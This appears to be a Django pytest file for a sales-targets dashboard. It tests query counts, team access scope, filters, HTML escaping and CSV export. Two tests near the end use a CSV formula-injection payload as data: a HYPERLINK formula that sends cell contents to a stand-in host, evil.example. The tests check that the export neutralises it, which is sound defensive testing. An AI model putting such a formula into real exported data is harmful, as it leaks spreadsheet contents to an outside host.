"""targets/dashboard_views.py: the dashboard pages, their scope and their fixed cost."""

import csv
import dataclasses
import datetime as dt
import io
import re
from decimal import Decimal
from unittest import mock

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.models import Team
from activities.models import Activity, DayTally
from targets.dashboard import dashboard_for
from targets.models import Target
from tests import factories

STANDARD = [
    ("calls", "day", 25),
    ("appointments", "week", 5),
    ("thank_you_notes", "day", 10),
    ("revenue", "month", 20000),
]
ZONES = ["Europe/Athens", "Pacific/Kiritimati", "America/New_York", "UTC"]


def build_team(*, manager, reps: int, days: int) -> Team:
    """A team of `reps` reps with standard targets and `days` days of tallies (bulk)."""
    team = factories.TeamFactory(manager=manager)
    people = [
        factories.RepFactory(team=team, timezone=ZONES[index % len(ZONES)])
        for index in range(reps)
    ]
    today = timezone.now().date()
    metrics = {slug: factories.metric(slug) for slug, *_rest in STANDARD}
    Target.objects.bulk_create(
        Target(
            rep=rep,
            metric=metrics[slug],
            period=period,
            amount=amount,
            effective_from=today - dt.timedelta(days=days + 400),
            agreed_at=None if index == 0 else timezone.now(),
        )
        for index, rep in enumerate(people)
        for slug, period, amount in STANDARD
    )
    DayTally.objects.bulk_create(
        DayTally(
            rep=rep,
            metric=metrics[slug],
            local_date=today - dt.timedelta(days=offset),
            quantity=quantity + index % 7,
            amount=Decimal(1000) if slug == "revenue" else Decimal(0),
        )
        for index, rep in enumerate(people)
        for offset in range(days)
        for slug, quantity in (("calls", 22), ("appointments", 1), ("revenue", 1))
    )
    # A little raw history for the results page's "recent activities"
    Activity.objects.bulk_create(
        Activity(
            rep=people[0],
            metric=metrics["calls"],
            occurred_at=timezone.now() - dt.timedelta(hours=offset),
            local_date=today - dt.timedelta(days=offset // 24),
        )
        for offset in range(min(days, 30))
    )
    return team


SIZES = [(5, 30), (50, 30), (5, 300), (50, 300)]
SIZE_IDS = [f"{reps}reps-{days}days" for reps, days in SIZES]

# session, user, teams, reps (with unagreed targets), metrics, targets, tallies,
# sparkline tallies, open flags, the month forecast's targets and tallies (issue 15:
# it reads the quota metric of each rep's running month and recent work days, a range
# of its own), unread notifications (the navigation bar)
DASHBOARD_QUERIES = 12
# session, user, the rep, metrics, target history, targets, tallies,
# recent activities, the personal goals the rep shares (issue 16), unread notifications
RESULTS_QUERIES = 10
# The rep's own page: no lookup of the rep, but their consistency (one read of the
# day tallies, issue 16): session, user, metrics, target history, targets, tallies,
# recent activities, consistency, their personal goals, unread notifications
OWN_RESULTS_QUERIES = RESULTS_QUERIES
# session, user, the team, its reps, metrics, targets, tallies
TEAM_ATTAINMENT_QUERIES = 7


@pytest.mark.parametrize(("reps", "days"), SIZES, ids=SIZE_IDS)
def test_the_dashboard_costs_the_same_queries_whatever_team_size_or_history(
    client, manager, django_assert_num_queries, reps, days
):
    # Given a team of 5 or 50 reps with 30 or 300 days of history
    team = build_team(manager=manager, reps=reps, days=days)
    client.force_login(manager)
    # When the manager opens the dashboard, sorted, for a month
    with django_assert_num_queries(DASHBOARD_QUERIES):
        response = client.get(
            reverse("targets:dashboard"),
            {"team": team.pk, "period": "month", "sort": "calls", "dir": "desc"},
        )
    # Then every rep is on it
    assert response.status_code == 200
    assert response.content.decode().count('data-testid="dashboard-row"') == reps
    # And the CSV and the home page cost the same
    with django_assert_num_queries(DASHBOARD_QUERIES - 1):  # no navigation bar
        assert client.get(reverse("targets:dashboard_csv")).status_code == 200
    with django_assert_num_queries(DASHBOARD_QUERIES):
        assert client.get(reverse("home")).status_code == 200


@pytest.mark.parametrize(("reps", "days"), SIZES, ids=SIZE_IDS)
def test_a_reps_results_cost_the_same_queries_whatever_history(
    client, manager, django_assert_num_queries, reps, days
):
    team = build_team(manager=manager, reps=reps, days=days)
    rep = team.members.order_by("pk").first()
    client.force_login(manager)
    with django_assert_num_queries(RESULTS_QUERIES):
        response = client.get(reverse("targets:rep_results", args=[rep.pk]))
    assert response.status_code == 200
    assert response.context["results"].charts


@pytest.mark.parametrize(("reps", "days"), SIZES, ids=SIZE_IDS)
def test_a_reps_own_results_cost_the_same_queries_whatever_history(
    client, manager, django_assert_num_queries, reps, days
):
    team = build_team(manager=manager, reps=reps, days=days)
    rep = team.members.order_by("pk").first()
    client.force_login(rep)
    with django_assert_num_queries(OWN_RESULTS_QUERIES):
        response = client.get(reverse("targets:my_results"))
    assert response.status_code == 200
    assert response.context["consistency"].window.active > 0


@pytest.mark.parametrize(("reps", "days"), SIZES, ids=SIZE_IDS)
def test_team_attainment_returns_every_rep_in_a_fixed_number_of_queries(
    client, manager, django_assert_num_queries, reps, days
):
    team = build_team(manager=manager, reps=reps, days=days)
    client.force_login(manager)
    with django_assert_num_queries(TEAM_ATTAINMENT_QUERIES):
        response = client.get(
            "/api/v1/attainment/", {"team": team.pk, "period": "month"}
        )
    assert response.status_code == 200
    body = response.json()
    assert len(body["results"]) == reps
    assert {row["user"] for row in body["results"]} == set(
        team.members.values_list("pk", flat=True)
    )


@pytest.mark.parametrize(("reps", "days"), [(5, 30), (50, 300)], ids=["small", "big"])
def test_the_leaderboard_costs_the_same_queries(
    client, manager, django_assert_num_queries, reps, days
):
    team = build_team(manager=manager, reps=reps, days=days)
    client.force_login(manager)
    with django_assert_num_queries(DASHBOARD_QUERIES):
        response = client.get(
            reverse("targets:leaderboard"), {"team": team.pk, "metric": "revenue"}
        )
    assert len(response.context["entries"]) == reps


# --- Scope ------------------------------------------------------------------------


@pytest.fixture
def two_teams(manager):
    team_a = build_team(manager=manager, reps=2, days=10)
    other_manager = factories.ManagerFactory()
    team_b = build_team(manager=other_manager, reps=2, days=10)
    return team_a, team_b, other_manager


def test_a_manager_never_sees_another_teams_reps(client, manager, two_teams):
    team_a, team_b, other_manager = two_teams
    client.force_login(other_manager)
    # Team A by id: not found, on the page and in the CSV
    for name in ("targets:dashboard", "targets:dashboard_csv", "targets:leaderboard"):
        assert client.get(reverse(name), {"team": team_a.pk}).status_code == 404
    for rep in team_a.members.all():
        response = client.get(reverse("targets:rep_results", args=[rep.pk]))
        assert response.status_code == 404
    # "All my teams" is only team B
    response = client.get(reverse("targets:dashboard"), {"team": "all"})
    shown = {row.rep.pk for row in response.context["dashboard"].rows}
    assert shown == set(team_b.members.values_list("pk", flat=True))
    csv_text = client.get(reverse("targets:dashboard_csv")).content.decode()
    assert not any(str(rep) in csv_text for rep in team_a.members.all())


def test_an_admin_sees_any_team_or_all(client, admin_user, two_teams):
    team_a, team_b, _other = two_teams
    client.force_login(admin_user)
    # Every team: the organisation view, one row per team (tests/targets/
    # test_organisation.py); the CSV still has every rep
    response = client.get(reverse("targets:dashboard"))
    assert len(response.context["organisation"].rows) == 2
    assert sum(row.reps for row in response.context["organisation"].rows) == 4
    response = client.get(reverse("targets:dashboard"), {"team": team_b.pk})
    assert {row.rep.team_id for row in response.context["dashboard"].rows} == {
        team_b.pk
    }
    assert client.get(reverse("targets:dashboard"), {"team": "nope"}).status_code == 404


def test_reps_are_refused_the_dashboard_but_see_their_results_and_leaderboard(
    client, two_teams
):
    team_a, team_b, _other = two_teams
    rep = team_a.members.first()
    client.force_login(rep)
    assert client.get(reverse("targets:dashboard")).status_code == 403
    assert client.get(reverse("targets:dashboard_csv")).status_code == 403
    response = client.get(reverse("targets:my_results"))
    assert response.status_code == 200 and response.context["results"].rep == rep
    assert "My results" in response.content.decode()
    response = client.get(reverse("targets:leaderboard"))
    assert response.status_code == 200
    assert {e.rep.team_id for e in response.context["entries"]} == {team_a.pk}
    # Not another team's leaderboard, nor another team's rep
    assert (
        client.get(reverse("targets:leaderboard"), {"team": team_b.pk}).status_code
        == 404
    )
    other_rep = team_b.members.first()
    response = client.get(reverse("targets:rep_results", args=[other_rep.pk]))
    assert response.status_code == 404


def test_a_team_can_hide_the_leaderboard_from_reps(client, manager, two_teams):
    team_a, _team_b, _other = two_teams
    Team.objects.filter(pk=team_a.pk).update(leaderboard_visible_to_reps=False)
    client.force_login(team_a.members.first())
    assert client.get(reverse("targets:leaderboard")).status_code == 403
    client.force_login(manager)
    assert client.get(reverse("targets:leaderboard")).status_code == 200


# --- The page ---------------------------------------------------------------------


def test_managers_land_on_the_dashboard(client, manager, two_teams):
    client.force_login(manager)
    response = client.get(reverse("home"))
    assert "targets/dashboard/dashboard.html" in [t.name for t in response.templates]
    page = response.content.decode()
    assert 'data-testid="home-greeting"' in page
    assert reverse("targets:dashboard") in page  # the navigation's "Dashboard"


def test_filters_live_in_the_query_string(client, manager, two_teams):
    team_a, *_ = two_teams
    client.force_login(manager)
    response = client.get(
        reverse("targets:dashboard"),
        {"team": team_a.pk, "period": "last_month", "sort": "calls", "dir": "asc"},
    )
    board = response.context["dashboard"]
    assert (board.team, board.period, board.sort, board.direction) == (
        team_a,
        "last_month",
        "calls",
        "asc",
    )
    page = response.content.decode()
    # The sort link toggles the direction and keeps the other filters
    assert "sort=calls&amp;dir=desc" in page and "period=last_month" in page
    # The CSV link carries the same filters
    assert (
        f"{reverse('targets:dashboard_csv')}?team={team_a.pk}&amp;period=last_month"
        in page
    )


def test_a_bad_custom_range_says_why_and_shows_this_week(client, manager, two_teams):
    client.force_login(manager)
    response = client.get(
        reverse("targets:dashboard"),
        {"period": "custom", "from": "2026-03-10", "to": "2026-03-01"},
    )
    assert response.status_code == 200
    assert response.context["dashboard"].period == "week"
    assert "The last day comes before the first." in response.content.decode()
    response = client.get(
        reverse("targets:dashboard"),
        {"period": "custom", "from": "2026-03-01", "to": "2026-03-10"},
    )
    board = response.context["dashboard"]
    assert (board.period, board.start, board.end) == (
        "custom",
        dt.date(2026, 3, 1),
        dt.date(2026, 3, 10),
    )


def test_the_csv_download_matches_the_page(client, manager, two_teams):
    team_a, *_ = two_teams
    client.force_login(manager)
    query = {"team": team_a.pk, "period": "month", "sort": "calls", "dir": "desc"}
    page = client.get(reverse("targets:dashboard"), query).context["dashboard"]
    response = client.get(reverse("targets:dashboard_csv"), query)
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert [line[0] for line in lines[1:-1]] == [str(row.rep) for row in page.rows]
    calls = [c.slug for c in page.columns].index("calls")
    assert [Decimal(line[3 + 4 * calls]) for line in lines[1:-1]] == [
        row.cells[calls].actual for row in page.rows
    ]


def test_cells_are_coloured_and_badges_shown(client, manager, two_teams):
    team_a, *_ = two_teams
    client.force_login(manager)
    board = dashboard_for(viewer=manager, teams=[team_a], team=team_a, period="month")
    board.rows[0].open_flags = 2
    board.rows[0].open_plan = True
    with mock.patch("targets.dashboard_views.dashboard_for", return_value=board):
        page = client.get(reverse("targets:dashboard")).content.decode()
    assert "2 open flags" in page and 'data-testid="badge-plan"' in page
    assert 'data-testid="badge-unagreed"' in page  # the first rep has not agreed
    assert "status-met" in page or "status-behind" in page or "status-on_pace" in page
    assert 'data-testid="totals-row"' in page
    assert "<polyline" in page


def test_rows_escape_names_and_show_each_reps_team_on_all_teams(
    client, manager, two_teams
):
    team_a, *_ = two_teams
    rep = team_a.members.filter(role="rep").first()
    rep.first_name, rep.last_name = "<b>Ann", "O'Neil</b>"
    rep.save(update_fields=["first_name", "last_name"])
    team_a.name = "North & <i>South</i>"
    team_a.save(update_fields=["name"])
    client.force_login(manager)
    page = client.get(reverse("targets:dashboard"), {"team": "all"}).content.decode()
    assert "<b>Ann" not in page and "&lt;b&gt;Ann O&#x27;Neil&lt;/b&gt;" in page
    assert "North &amp; &lt;i&gt;South&lt;/i&gt;" in page
    url = reverse("targets:rep_results", args=[rep.pk])
    assert f'<a href="{url}" data-testid="rep-link">' in page
    assert page.count('data-testid="dashboard-row"') == 2
    page = client.get(reverse("targets:dashboard"), {"team": team_a.pk})
    assert "North &amp;" not in page.content.decode().split("<tbody>")[1]


def test_row_badges_are_in_the_viewers_language(client, manager, two_teams):
    team_a, *_ = two_teams
    manager.language = "el"
    manager.save(update_fields=["language"])
    client.force_login(manager)
    board = dashboard_for(viewer=manager, teams=[team_a], team=team_a, period="month")
    first, second = board.rows
    first.open_flags, second.open_flags = 1, 3
    first.pending_acknowledgement, first.open_plan = True, True
    first.local = dataclasses.replace(first.local, working_now=True)
    with mock.patch("targets.dashboard_views.dashboard_for", return_value=board):
        page = client.get(reverse("targets:dashboard")).content.decode()
    assert "1 ανοιχτή επισήμανση" in page and "3 ανοιχτές επισημάνσεις" in page
    assert "Μη συμφωνημένοι στόχοι" in page and "Σχέδιο βελτίωσης" in page
    assert 'aria-label="εργάζεται τώρα"' in page


def test_a_rows_name_and_badges_read_as_separate_words(client, manager, two_teams):
    team_a, *_ = two_teams
    client.force_login(manager)
    board = dashboard_for(viewer=manager, teams=[team_a], team=team_a, period="month")
    row = board.rows[0]
    row.pending_acknowledgement, row.open_flags, row.open_plan = True, 2, True
    with mock.patch("targets.dashboard_views.dashboard_for", return_value=board):
        page = client.get(reverse("targets:dashboard")).content.decode()
    header = page.split(f'data-rep="{row.rep.pk}">', 1)[1].split("</th>", 1)[0]
    words = " ".join(re.sub(r"<[^>]+>", " ", header).split())
    assert row.local.local_time_label in words
    assert words.endswith("Targets not agreed 2 open flags Improvement plan")
    assert re.search(r"</a>\s", header) and re.search(r"</span>\s+<span", header)


def test_the_dashboard_reads_teams_without_their_managers(manager, team):
    from accounts.selectors import teams_visible_to
    from targets.dashboard import teams_in_order

    with CaptureQueriesContext(connection) as queries:
        teams = teams_in_order(teams_visible_to(manager))
    assert teams == [team]
    [query] = queries.captured_queries
    assert "JOIN" not in query["sql"].upper()


def test_a_manager_without_a_team_sees_an_empty_state(client):
    lonely = factories.ManagerFactory()
    client.force_login(lonely)
    page = client.get(reverse("targets:dashboard")).content.decode()
    assert 'data-testid="dashboard-empty"' in page
    page = client.get(reverse("targets:leaderboard")).content.decode()
    assert 'data-testid="leaderboard-empty"' in page


def test_the_results_page_passes_chart_data_as_json(client, manager, two_teams):
    team_a, *_ = two_teams
    rep = team_a.members.order_by("pk").first()
    client.force_login(rep)
    page = client.get(reverse("targets:my_results")).content.decode()
    assert 'id="results-charts"' in page and "chart.umd.js" in page
    assert 'data-testid="chart-day"' in page and 'data-testid="target-history"' in page


def test_the_csv_export_never_starts_a_cell_with_a_formula(client, manager):
    team = build_team(manager=manager, reps=1, days=1)
    rep = team.members.filter(role="rep").first()
    rep.first_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rep.save()
    client.force_login(manager)
    body = client.get(
        reverse("targets:dashboard_csv"), {"team": team.pk}
    ).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_csv_header_neutralises_a_metric_named_like_a_formula(client, manager):
    # Given a team with call targets, and an admin who named the calls metric a formula
    team = build_team(manager=manager, reps=1, days=1)
    calls = factories.metric("calls")
    calls.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    calls.save(update_fields=["name"])
    client.force_login(manager)
    # When the manager downloads the dashboard
    body = client.get(
        reverse("targets:dashboard_csv"), {"team": team.pk}
    ).content.decode()
    # Then the header names the metric, but no header cell starts a formula
    header = next(csv.reader(io.StringIO(body)))
    assert f"'{calls.name} · actual" in header
    assert not any(title.startswith(("=", "+", "-", "@")) for title in header)


def test_the_status_legend_on_the_dashboard_is_coloured_like_the_cells(client, manager):
    # Given a manager on the dashboard of a team of two
    build_team(manager=manager, reps=2, days=1)
    client.force_login(manager)
    # When the dashboard is drawn
    page = client.get(reverse("targets:dashboard")).content.decode()
    # Then each badge of the colour key has the background its cells have
    legend = re.search(r'data-testid="status-legend".*?</p>', page, re.S).group(0)
    for status, colour in (
        ("met", "success"),
        ("on_pace", "warning"),
        ("behind", "danger"),
    ):
        assert re.search(
            rf'class="[^"]*\bstatus-{status}\b[^"]*\bbg-{colour}-subtle\b', legend
        ), status
